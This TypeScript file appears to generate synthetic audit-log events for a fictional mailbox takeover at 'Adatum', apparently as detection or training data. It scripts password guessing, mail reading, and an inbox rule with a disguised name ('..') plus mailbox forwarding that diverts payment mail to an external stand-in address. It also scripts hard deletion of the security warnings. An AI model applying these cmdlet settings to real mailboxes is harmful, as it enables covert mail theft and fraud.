/** Story, Adatum: a stranger guesses a partner's password and diverts her mail. */
import type { AuditEvent, PersonalVisit, Scene } from '../audit-event.ts';
import { later } from '../calendar.ts';
import { personNamed, type Person } from '../company.ts';
import { applications, signIn, wrongPassword } from '../records/entra.ts';
import { cmdlet, recipientPath } from '../records/exchange-admin.ts';
import { groupAction, itemAction, mailItemsAccessed } from '../records/exchange-mailbox.ts';
import { alertTriggered } from '../records/security.ts';

/** No one at Adatum has ever worked from there. */
export const strangeAddress = '203.0.113.77';

/** The partner whose mailbox is taken over. */
export const victimName = 'Claire Dupont';

/** The night before the fourth working day before today. */
export const mailboxTakeover = (scene: Scene): readonly AuditEvent[] => {
  const begin = scene.calendar.workdayAt(4, '03:12');
  return [
    ...guessesThePassword(scene, begin),
    ...readsTheMail(scene, later(begin, 22)),
    ...divertsTheMail(scene, later(begin, 35)),
    ...deletesTheWarnings(scene, later(begin, 41)),
  ];
};

const guessesThePassword = (scene: Scene, begin: Date): readonly AuditEvent[] => [
  ...Array.from({ length: 26 }, (_, attempt) =>
    signIn(scene, strangersVisit(scene, later(begin, attempt * 0.4)), {
      applicationId: applications.exchangeOnline,
      failure: wrongPassword,
    }),
  ),
  signIn(scene, strangersVisit(scene, later(begin, 12)), { applicationId: applications.exchangeOnline }),
];

const readsTheMail = (scene: Scene, begin: Date): readonly AuditEvent[] =>
  ['\\Inbox', '\\Inbox\\Settlements', '\\Sent Items'].map((folder, step) =>
    mailItemsAccessed(
      scene,
      strangersVisit(scene, later(begin, 4 * step)),
      { owner: victim(scene), logonType: 0 },
      folder,
    ),
  );

const divertsTheMail = (scene: Scene, begin: Date): readonly AuditEvent[] => {
  const owner = victim(scene);
  const objectId = recipientPath(scene, owner.mailboxId);
  return [
    cmdlet(scene, strangersVisit(scene, begin), {
      name: 'New-InboxRule',
      objectId: `${objectId}\\..`,
      parameters: {
        Name: '..',
        SubjectOrBodyContainsWords: 'invoice;payment;settlement;bank',
        ForwardTo: 'c.dupont@mailbox-archive.example',
        MarkAsRead: 'True',
        StopProcessingRules: 'True',
      },
    }),
    cmdlet(scene, strangersVisit(scene, later(begin, 2)), {
      name: 'Set-Mailbox',
      objectId,
      parameters: {
        Identity: owner.userId,
        ForwardingSmtpAddress: 'smtp:c.dupont@mailbox-archive.example',
        DeliverToMailboxAndForward: 'True',
      },
    }),
    itemAction(
      scene,
      strangersVisit(scene, later(begin, 2.2)),
      { owner, logonType: 0 },
      { operation: 'UpdateInboxRules', item: { subject: '', folder: '\\Inbox' } },
    ),
    alertTriggered(scene, later(begin, 4), {
      name: 'Creation of forwarding/redirect rule',
      severity: 'Informational',
      category: 'ThreatManagement',
      about: owner,
      cause: 'MailRedirect',
    }),
  ];
};

const deletesTheWarnings = (scene: Scene, begin: Date): readonly AuditEvent[] =>
  ['Unusual sign-in to your account', 'A forwarding rule was created'].map((subject, step) =>
    groupAction(
      scene,
      strangersVisit(scene, later(begin, step)),
      { owner: victim(scene), logonType: 0 },
      { operation: 'HardDelete', items: [{ subject, folder: '\\Inbox' }] },
    ),
  );

const victim = ({ company }: Scene): Person => personNamed(company, victimName);

const strangersVisit = (scene: Scene, at: Date): PersonalVisit => ({
  at,
  actor: victim(scene),
  address: strangeAddress,
  userAgent: 'python-requests/2.32.3',
});
